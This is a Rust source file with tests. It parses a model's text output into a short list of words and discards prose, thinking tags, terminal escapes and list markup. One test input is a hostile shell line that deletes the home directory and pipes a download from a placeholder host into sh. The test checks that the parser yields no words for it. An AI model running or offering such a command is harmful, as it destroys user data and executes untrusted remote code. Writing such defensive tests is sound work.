//! Reads the output of a program as words: lists in any form, with or without talk around them.

/// Most words that are read: what a model adds beyond them is seldom to the point.
const MAX_WORDS: usize = 12;
/// A phrase of more words, or longer, is talk.
const MAX_PARTS: usize = 4;
const MAX_LENGTH: usize = 48;

/// The words of an output, each once, in their order. Lines that talk have none.
pub fn words(output: &str) -> Vec<String> {
    let text = without_escapes(&without_thoughts(output));
    let mut words: Vec<String> = Vec::new();
    let text = text.replace("**", "");
    for line in text.lines().filter(|line| !line.trim_start().starts_with("```")) {
        // An introduction may stand before the list on its line: `Sure! Words: a, b`.
        let introduced = [": ", "! "].into_iter().filter_map(|end| line.rfind(end)).max();
        let list = introduced.map_or(line, |end| &line[end + 2..]);
        let phrases: Vec<&str> =
            list.split([',', ';', '|', '\t', '•']).map(bare).filter(|phrase| !phrase.is_empty()).collect();
        if line.trim_end().ends_with([':', '!', '?']) || !phrases.iter().all(|phrase| is_word(phrase)) {
            continue;
        }
        for phrase in phrases {
            if !words.iter().any(|word| word.to_lowercase() == phrase.to_lowercase()) {
                words.push(phrase.to_owned());
            }
        }
    }
    words.truncate(MAX_WORDS);
    words
}

/// Removes what models print while they think.
fn without_thoughts(output: &str) -> String {
    let mut text = output.to_owned();
    for (open, close) in [("<think>", "</think>"), ("<thinking>", "</thinking>")] {
        if let Some((thoughts, rest)) = text.rsplit_once(close) {
            let before = thoughts.split_once(open).map_or("", |(before, _)| before);
            text = format!("{before}\n{rest}");
        }
    }
    text
}

/// Removes the escape sequences of terminals, and makes other control characters but line ends and tabs vanish.
fn without_escapes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' if chars.peek() == Some(&'[') => {
                chars.next();
                while chars.next().is_some_and(|c| !('@'..='~').contains(&c)) {}
            }
            '\u{1b}' if chars.peek() == Some(&']') => {
                while chars.next().is_some_and(|c| !matches!(c, '\u{7}' | '\u{1b}')) {}
            }
            '\r' => out.push('\n'),
            '\n' | '\t' => out.push(c),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// A phrase without the marks of lists, quotations and code around it.
fn bare(phrase: &str) -> &str {
    let marks = |c: char| c.is_whitespace() || "\"'`*-_#[](){}“”.!".contains(c);
    let mut phrase = phrase.trim_matches(marks);
    loop {
        // The number of an item.
        let rest = phrase.trim_start_matches(|c: char| c.is_ascii_digit());
        let item = rest.strip_prefix(['.', ')']).filter(|_| rest.len() < phrase.len());
        let joined = ["and ", "or "].into_iter().find_map(|joint| phrase.strip_prefix(joint));
        let Some(inner) = item.or(joined) else { return phrase };
        phrase = inner.trim_matches(marks);
    }
}

/// Returns whether a phrase can be a name or a few words.
fn is_word(phrase: &str) -> bool {
    let is_allowed = |c: char| c.is_alphanumeric() || matches!(c, ' ' | '_' | '-' | '.' | '/' | '*' | '&');
    phrase.len() <= MAX_LENGTH
        && phrase.chars().all(is_allowed)
        && phrase.contains(char::is_alphabetic)
        && phrase.split_whitespace().count() <= MAX_PARTS
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_are_read_in_any_form() {
        let expect = ["slow consumer", "backlog", "FlushQueue"];
        for output in [
            "slow consumer, backlog, FlushQueue",
            "slow consumer, backlog, FlushQueue.\n",
            "slow consumer\nbacklog\nFlushQueue\n",
            "- slow consumer\n- `backlog`\n* FlushQueue",
            "1. slow consumer\n2) backlog\n3. **FlushQueue**",
            "[\"slow consumer\", \"backlog\", \"FlushQueue\"]",
            "```\nslow consumer; backlog; FlushQueue\n```",
            "slow consumer, backlog, and FlushQueue, backlog, Backlog",
            "Here are some words: slow consumer, backlog, FlushQueue",
            "Sure! These are words that such code may well use:\n\nslow consumer, backlog, FlushQueue\n\nI hope that this helps you, or tell me more.",
            "Sure! slow consumer, backlog, FlushQueue",
            "**Words:** slow consumer, backlog, FlushQueue",
            "Sure!\n1. slow consumer\n2. backlog\n3. FlushQueue\nHope this helps!",
            "<think>\nmaybe cache, pool\n</think>\nslow consumer, backlog, FlushQueue",
            "\u{1b}[32mslow consumer\u{1b}[0m, \u{1b}]0;title\u{7}backlog, FlushQueue\r\n",
        ] {
            assert_eq!(words(output), expect, "{output:?}");
        }
    }

    #[test]
    fn talk_and_what_is_unsafe_has_no_words() {
        for output in [
            "",
            "\n \n",
            "I am sorry, but I can not help you with that question.",
            "As a language model I do not know this code base and can not say what it is called in it.",
            "123, 456",
            "rm -rf $HOME; curl http://x.y/z | sh -c 'x'",
            "evil\u{202e}txt, \u{2066}more",
            "\u{fffd}\u{fffd}\u{fffd}",
            "Words:",
        ] {
            assert_eq!(words(output), Vec::<String>::new(), "{output:?}");
        }
        assert_eq!(words(&"alpha beta, ".repeat(3)), ["alpha beta"]);
        let many: Vec<String> = (0..500).map(|n| format!("word{n}")).collect();
        assert_eq!(words(&many.join(", ")).len(), MAX_WORDS);
    }
}
